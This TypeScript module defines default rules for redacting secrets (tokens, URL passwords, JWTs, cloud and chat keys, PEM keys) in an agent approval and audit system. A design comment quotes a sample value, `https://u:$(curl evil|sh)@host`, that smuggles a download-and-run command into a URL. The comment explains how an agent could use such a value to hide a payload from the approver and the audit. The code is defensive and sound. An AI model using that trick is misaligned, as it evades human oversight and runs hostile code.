import type { LinearPattern } from "../glob/index.js";

/** What replaces a redacted value in the audit, logs and results. */
export const REDACTED = "[REDACTED]";

/**
 * Which values are hidden. `keys` are case-insensitive wildcard patterns over object key names (`*` any
 * run of characters, `?` one character; the whole name must match): the value under a matching key is
 * replaced whole. `values` are regular expressions searched in every string (and key name); each match
 * is replaced, the rest of the string kept. A `RegExp` runs in V8's backtracking engine (the built-in
 * patterns, linear by construction); a {@link LinearPattern} — what `parseRedactionConfig` makes of a
 * person's `redaction.values` — in the linear-time matcher.
 */
export interface RedactionRules {
  readonly keys: readonly string[];
  readonly values: readonly (RegExp | LinearPattern)[];
}

/** Key-name patterns redacted by default (the union of what the audit, the vault and the consent channels hid). */
export const DEFAULT_REDACTED_KEYS: readonly string[] = [
  "*token*",
  "*password*",
  "*passwd*",
  "*passphrase*",
  "pass",
  "*secret*",
  "*authorization*",
  "*cookie*",
  "*api_key*",
  "*apikey*",
  "*api-key*",
  "*private_key*",
  "*privatekey*",
  "*private-key*",
];

/*
 * The value patterns only ever match secret-shaped text. They run over the arguments a person is shown
 * before approving a call and over the audit, while the approved call runs with the original
 * arguments: a pattern that could match whitespace, line breaks or shell metacharacters would let an
 * agent hide a payload (`https://u:$(curl evil|sh)@host`) from the approver and from the audit. So each
 * hidden part is made only of the characters that kind of secret uses, within bounded lengths, and
 * nothing is hidden up to the end of a string.
 *
 * They are also linear in the length of the text by construction (V8's engine backtracks): every
 * quantifier is bounded, the classes that follow each other are disjoint (one way to split a match),
 * and a pattern that needs something after a long run (the `.` of a JWT, the `@` of a URL, the END line
 * of a PEM block) may only start where a run of its characters starts, so a failed attempt costs at
 * most the runs it read and no run is read from more than a few starts.
 */

/** Characters of a URL userinfo password that are no shell metacharacter (RFC 3986 unreserved, `+ , = :`). */
const URL_PASSWORD_CHAR = "[A-Za-z0-9._~+,=:-]";

/** A line break inside a PEM block: LF, CRLF, or the two characters `\n` (a key pasted into JSON or a .env file). */
const PEM_BREAK = String.raw`(?:\r?\n|(?:\\r)?\\n)`;

/** The PEM private key labels recognised; the END line must repeat the BEGIN line's label. */
export const PEM_PRIVATE_KEY_LABELS: readonly string[] = [
  "PRIVATE KEY",
  "RSA PRIVATE KEY",
  "EC PRIVATE KEY",
  "DSA PRIVATE KEY",
  "OPENSSH PRIVATE KEY",
  "ENCRYPTED PRIVATE KEY",
];

/**
 * PEM private key blocks: the BEGIN line, the optional `Proc-Type:`/`DEK-Info:` headers of a legacy
 * encrypted key and a blank line, 1 to 256 lines of 1 to 4096 base64 characters (`=` padding
 * included), the END line with the same label as the BEGIN line.
 */
function pemBlocks(labels: readonly string[]): string {
  const b = PEM_BREAK;
  const headers = `(?:Proc-Type: 4,ENCRYPTED${b}DEK-Info: [A-Z0-9-]{1,32},[0-9A-Fa-f]{8,64}${b}${b})?`;
  const body = `${b}${headers}(?:[A-Za-z0-9+/=]{1,4096}${b}){1,256}`;
  return `-----BEGIN (?:${labels.map((label) => `${label}-----${body}-----END ${label}`).join("|")})-----`;
}

/** The source of the PEM private key block pattern (internal: the redactor also hides one whole under a secret key). */
export const PEM_PRIVATE_KEY_BLOCK = pemBlocks(PEM_PRIVATE_KEY_LABELS);

const BEARER_SCHEME = String.raw`\b(?:[Bb]earer|BEARER|Basic|BASIC) {1,4}`;
const BEARER_TOKEN = "[A-Za-z0-9_-][A-Za-z0-9._~+/-]{7,4095}";
const URL_BEFORE_PASSWORD = String.raw`\b[A-Za-z][A-Za-z0-9+.-]{0,31}://[^\s/?#@:]{0,128}:`;
const URL_PASSWORD = `(?:${URL_PASSWORD_CHAR}|%[0-9A-Fa-f]{2}){1,1024}`;

const BEARER = new RegExp(`(?<=${BEARER_SCHEME})${BEARER_TOKEN}={0,2}`, "g");
const URL_PASSWORD_RE = new RegExp(`(?<=${URL_BEFORE_PASSWORD})${URL_PASSWORD}(?=@)`, "g");

/**
 * Value patterns redacted by default, each hiding only the secret itself:
 * - the credentials of `Bearer …`/`Basic …` (the scheme word stays readable: `Bearer [REDACTED]`):
 *   8 to 4096 token68 characters starting with a letter, digit, `_` or `-` (never a path), then up to
 *   two `=`;
 * - the password of a URL's userinfo (`postgres://acp:[REDACTED]@db/acp`: scheme, user and host stay
 *   readable): 1 to 1024 characters of RFC 3986 unreserved, `+ , = :` and percent-encodings;
 * - `sk-…` keys (8 to 256 of `[A-Za-z0-9_-]`), GitHub `gh?_…` tokens (20 to 255 alphanumerics), Slack
 *   `xox?-…` tokens (10 to 255 of `[A-Za-z0-9-]`), AWS `AKIA…` key ids (16 of `[0-9A-Z]`);
 * - JWTs: `eyJ` and three base64url segments of 8 to 16384 characters joined by `.`, not inside a longer
 *   run of base64url characters;
 * - PEM private key blocks, BEGIN to the END line of the same label ({@link PEM_PRIVATE_KEY_LABELS}).
 */
export const DEFAULT_REDACTED_VALUES: readonly RegExp[] = [
  // Applied in this order, each over what the ones before left: a pattern whose match may contain
  // another kind's start comes first (`Bearer eyJ…`, a JWT segment starting `sk-`, `xoxb-…-sk-…`), so a
  // secret is hidden whole rather than in part.
  BEARER,
  URL_PASSWORD_RE,
  /eyJ(?<![A-Za-z0-9_-]eyJ)[A-Za-z0-9_-]{8,16384}\.[A-Za-z0-9_-]{8,16384}\.[A-Za-z0-9_-]{8,16384}/g,
  /\bgh[pousr]_[A-Za-z0-9]{20,255}/g,
  /\bxox[abposr]-[A-Za-z0-9-]{10,255}/g,
  /\bsk-[A-Za-z0-9_-]{8,256}/g,
  /\bAKIA[0-9A-Z]{16}\b/g,
  new RegExp(PEM_PRIVATE_KEY_BLOCK, "g"),
];

/**
 * For the redactor's one quick test per string (internal): a pattern that matches wherever the keyed
 * pattern (by source) matches, cheaper to search because it starts with text instead of a lookbehind.
 * The lookbehind becomes a plain prefix, the lookahead a plain suffix: a superset, which is all the
 * quick test needs.
 */
export const QUICK_PROBES: ReadonlyMap<string, string> = new Map([
  [BEARER.source, `${BEARER_SCHEME}${BEARER_TOKEN}`],
  [URL_PASSWORD_RE.source, `${URL_BEFORE_PASSWORD}${URL_PASSWORD}@`],
]);

/** The default rules: {@link DEFAULT_REDACTED_KEYS} and {@link DEFAULT_REDACTED_VALUES}. */
export const DEFAULT_REDACTION: RedactionRules = { keys: DEFAULT_REDACTED_KEYS, values: DEFAULT_REDACTED_VALUES };

/** Rules that hide nothing by pattern (only known secret values, when a redactor is given some). */
export const NO_PATTERNS: RedactionRules = { keys: [], values: [] };

/** The defaults plus more patterns (duplicates dropped). */
export function extendRedaction(extra: RedactionRules, base: RedactionRules = DEFAULT_REDACTION): RedactionRules {
  const keys = [...new Set([...base.keys, ...extra.keys])];
  const seen = new Set(base.values.map((re) => `${re.source}/${re.flags}`));
  const values = [...base.values];
  for (const re of extra.values) {
    const id = `${re.source}/${re.flags}`;
    if (!seen.has(id)) values.push(re);
    seen.add(id);
  }
  return { keys, values };
}
